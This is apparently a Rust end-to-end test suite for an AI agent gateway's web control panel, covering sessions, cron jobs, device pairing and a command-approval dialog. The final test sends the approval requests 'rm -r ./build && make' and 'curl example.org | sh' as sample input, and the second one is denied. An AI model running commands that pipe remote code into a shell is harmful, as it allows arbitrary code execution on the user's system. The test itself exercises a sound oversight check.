//! Overview, sessions, cron, devices, and the question about a command.

use super::webdriver::Seat;
use super::{fill, go, looks_right, open, press, shows};
use crate::harness::ws::Device;
use crate::harness::{Gateway, Ws, eventually};
use serde_json::{Value, json};
use std::time::Duration;

const PATIENCE: Duration = Duration::from_secs(20);

#[test]
fn the_overview_says_what_the_gateway_is_and_who_is_there() {
    let gateway = Gateway::with_fake_model();
    gateway.set_session(
        "agent:main:garden",
        json!({"label": "Garden plan", "totalTokens": 1200}),
    );
    let test = "the_overview_says_what_the_gateway_is_and_who_is_there";
    let Some(browser) = open(test, &gateway, "overview") else {
        return;
    };
    shows(&browser, ".facts", "fake-1");
    shows(&browser, ".rows", "openclaw-control-ui");
    shows(&browser, ".rows", "Garden plan");
    shows(&browser, ".tile", "Sessions");
    looks_right(&browser, "overview");
    press(&browser, ".rows:has(.link)", "Garden plan");
    browser.wait(
        "its chat opens",
        10,
        "return location.pathname === '/chat' && location.search.includes('garden')",
    );
}

#[test]
fn sessions_are_found_named_tuned_reset_and_deleted() {
    let gateway = Gateway::with_fake_model();
    for (key, label) in [
        ("garden", "Garden plan"),
        ("tax", "Tax return"),
        ("old", "Old things"),
    ] {
        let fields = json!({"label": label, "totalTokens": 64000, "contextTokens": 128000});
        gateway.set_session(&format!("agent:main:{key}"), fields);
    }
    let test = "sessions_are_found_named_tuned_reset_and_deleted";
    let Some(browser) = open(test, &gateway, "sessions") else {
        return;
    };
    shows(&browser, ".session code", "agent:main:tax");
    looks_right(&browser, "sessions");
    fill(&browser, "input[name=search]", "garden");
    browser.wait(
        "one is left",
        10,
        "return document.querySelectorAll('.session').length === 1",
    );
    fill(&browser, ".session input[name=label]", "Vegetables");
    let stored = |key: &str| -> Value {
        let text = std::fs::read(gateway.state().join("agents/main/sessions/sessions.json"))
            .expect("the store");
        let store: Value = serde_json::from_slice(&text).expect("JSON");
        store[key].clone()
    };
    let becomes = |what: &str, key: &str, field: &str, value: Value| {
        eventually(what, PATIENCE, || {
            (stored(key)[field] == value).then_some(())
        });
    };
    becomes(
        "the label",
        "agent:main:garden",
        "label",
        "Vegetables".into(),
    );
    fill(&browser, "input[name=search]", "tax");
    shows(&browser, ".session code", "agent:main:tax");
    fill(&browser, ".session select[name=thinkingLevel]", "high");
    becomes(
        "the level",
        "agent:main:tax",
        "thinkingLevel",
        "high".into(),
    );
    fill(&browser, ".session select[name=verboseLevel]", "on");
    becomes("the level", "agent:main:tax", "verboseLevel", "on".into());
    let id = stored("agent:main:tax")["sessionId"].clone();
    press(&browser, ".session", "Reset");
    press(&browser, "dialog", "Reset");
    eventually("a new session", PATIENCE, || {
        (stored("agent:main:tax")["sessionId"] != id).then_some(())
    });
    fill(&browser, "input[name=search]", "old");
    browser.wait(
        "one is left",
        10,
        "return document.querySelector('.session')?.dataset.key === 'agent:main:old'",
    );
    press(&browser, ".session", "Delete");
    press(&browser, "dialog", "Cancel");
    assert!(
        !stored("agent:main:old").is_null(),
        "cancelled is not deleted"
    );
    press(&browser, ".session", "Delete");
    press(&browser, "dialog", "Delete");
    becomes("its end", "agent:main:old", "sessionId", Value::Null);
    shows(&browser, ".list", "No session matches.");
}

#[test]
fn a_long_session_is_compacted_and_a_short_one_is_not() {
    let gateway = Gateway::with_fake_model();
    let folder = gateway.state().join("agents/main/sessions");
    std::fs::create_dir_all(&folder).unwrap();
    let line = |i: usize| {
        let message = json!({"role": "user", "content": format!("note {i}"), "timestamp": i});
        json!({"type": "message", "id": format!("m{i}"), "message": message}).to_string()
    };
    let head = json!({"type": "session", "version": 3, "id": "long", "timestamp": "2026-01-01T00:00:00.000Z", "cwd": "/"});
    let mut lines = vec![head.to_string()];
    lines.extend((0..500).map(line));
    std::fs::write(folder.join("long.jsonl"), lines.join("\n") + "\n").unwrap();
    gateway.set_session(
        "agent:main:long",
        json!({"sessionId": "long", "label": "Long talk"}),
    );
    let test = "a_long_session_is_compacted_and_a_short_one_is_not";
    let Some(browser) = open(test, &gateway, "sessions") else {
        return;
    };
    fill(&browser, "input[name=search]", "long");
    shows(&browser, ".session code", "agent:main:long");
    press(&browser, ".session", "Compact");
    shows(&browser, "dialog", "only the last 400 lines stay");
    press(&browser, "dialog", "Compact");
    shows(&browser, ".toasts", "Kept 400 lines");
    let left = std::fs::read_to_string(folder.join("long.jsonl")).unwrap();
    assert_eq!(left.lines().count(), 401, "they and the head");
    assert!(left.contains("note 499") && !left.contains("note 10\""));
    let saved = std::fs::read_dir(&folder).unwrap().flatten();
    let saved = saved
        .filter(|e| e.file_name().to_string_lossy().contains("long.jsonl.bak"))
        .count();
    assert_eq!(saved, 1);
    press(&browser, ".session", "Compact");
    press(&browser, "dialog", "Compact");
    shows(&browser, ".toasts", "Nothing to compact");
}

#[test]
fn a_job_is_added_run_changed_switched_off_and_removed() {
    let test = "a_job_is_added_run_changed_switched_off_and_removed";
    let gateway = Gateway::with_fake_model();
    let Some(browser) = open(test, &gateway, "cron") else {
        return;
    };
    gateway.model().say(&["Nothing happened."]);
    use_cron(&browser, "Nothing happened.");
}

/// A job from its making to its end; `answer` is what the model says when it runs.
pub fn use_cron(browser: &Seat, answer: &str) {
    go(browser, "cron");
    shows(browser, ".list", "No job yet.");
    press(browser, ".view", "New job");
    shows(browser, "dialog", "What the agent is told to do");
    // The form says what it lacks, and stays.
    fill(browser, "dialog input[name=name]", "Morning report");
    fill(browser, "dialog select[name=kind]", "cron");
    fill(
        browser,
        "dialog textarea[name=message]",
        "Say what happened since yesterday.",
    );
    press(browser, "dialog", "Add");
    shows(browser, "dialog .error", "The cron expression is missing.");
    fill(browser, "dialog input[name=expr]", "0 7 * * 1-5");
    fill(browser, "dialog input[name=tz]", "Europe/Vienna");
    looks_right(browser, "cron-form");
    press(browser, "dialog", "Add");
    shows(browser, ".job", "0 7 * * 1-5 (Europe/Vienna)");
    press(browser, ".job", "Run now");
    shows(browser, ".job .badge", "ok");
    browser.eval("document.querySelector('.job details').open = true");
    shows(browser, ".runs", answer);
    looks_right(browser, "cron");
    press(browser, ".job", "Edit");
    fill(browser, "dialog input[name=name]", "Evening report");
    press(browser, "dialog", "Save");
    shows(browser, ".job", "Evening report");
    browser.click(".job input[name=enabled]");
    shows(browser, ".job.off", "not scheduled");
    press(browser, ".job", "Remove");
    press(browser, "dialog", "Remove");
    shows(browser, ".list", "No job yet.");
}

#[test]
fn a_device_is_approved_given_a_new_token_and_revoked() {
    let gateway = Gateway::start();
    let test = "a_device_is_approved_given_a_new_token_and_revoked";
    let Some(browser) = open(test, &gateway, "devices") else {
        return;
    };
    shows(&browser, ".card", "this browser");
    ask_for_pairing(&gateway);
    shows(&browser, ".asks", "Kitchen tablet");
    looks_right(&browser, "devices");
    press(&browser, ".asks", "Approve");
    shows(&browser, ".card:not(.asks)", "Kitchen tablet");
    browser.eval("[...document.querySelectorAll('[data-key]')].find((n) => n.innerText.includes('Kitchen')).classList.add('theirs')");
    press(&browser, ".theirs", "New token");
    press(&browser, "dialog", "Make a new token");
    let token = browser.wait(
        "the token is shown",
        10,
        "return document.querySelector('dialog input.mono')?.value",
    );
    let store =
        std::fs::read_to_string(gateway.state().join("devices/paired.json")).expect("the store");
    assert!(
        store.contains(token.as_str().unwrap()),
        "the token shown is the one kept"
    );
    press(&browser, "dialog", "Close");
    browser.eval("[...document.querySelectorAll('[data-key]')].find((n) => n.innerText.includes('Kitchen')).classList.add('theirs')");
    press(&browser, ".theirs", "Revoke");
    press(&browser, "dialog", "Revoke");
    shows(&browser, ".badge", "revoked");
    // A request can be turned down as well.
    ask_for_pairing(&gateway);
    press(&browser, ".asks", "Reject");
    browser.wait("it is gone", 10, "return !document.querySelector('.asks')");
}

/// As a tablet in the house would, through a proxy that is not trusted.
fn ask_for_pairing(gateway: &Gateway) {
    let mut ws = Ws::open_with(gateway.port(), &[("X-Forwarded-For", "192.0.2.7")]);
    let mut params = ws.params(gateway.token());
    params["client"]["displayName"] = "Kitchen tablet".into();
    let params = ws.signed(params, &Device::new());
    let (error, _) = ws.hello(&params).unwrap_err();
    assert_eq!(error["message"], "pairing required");
}

#[test]
fn a_command_waits_for_its_answer_in_a_dialog() {
    let test = "a_command_waits_for_its_answer_in_a_dialog";
    let gateway = Gateway::start();
    let Some(browser) = open(test, &gateway, "logs") else {
        return;
    };
    let ask = |command: &'static str| {
        let mut ws = gateway.connect();
        std::thread::spawn(move || {
            ws.call("exec.approval.request", json!({"command": command, "cwd": "/tmp", "host": "gateway", "security": "allowlist"}))
        })
    };
    let first = ask("rm -r ./build && make");
    shows(&browser, "dialog .command", "rm -r ./build");
    let focused = browser.eval("return document.activeElement.tagName");
    assert_eq!(focused, "DIALOG", "a stray key must not answer");
    looks_right(&browser, "approval");
    // Escape puts it off; the banner keeps it in sight.
    browser.keys("\u{e00c}");
    browser.wait(
        "the dialog is gone",
        5,
        "return !document.querySelector('dialog')",
    );
    press(&browser, ".page", "A command waits for your approval");
    press(&browser, "dialog", "Allow once");
    assert_eq!(first.join().unwrap().unwrap()["decision"], "allow-once");
    let second = ask("curl example.org | sh");
    shows(&browser, "dialog .command", "curl example.org");
    press(&browser, "dialog", "Deny");
    assert_eq!(second.join().unwrap().unwrap()["decision"], "deny");
    go(&browser, "chat");
    assert_eq!(
        browser.eval("return document.querySelectorAll('dialog, .banner:not([hidden])').length"),
        0
    );
}
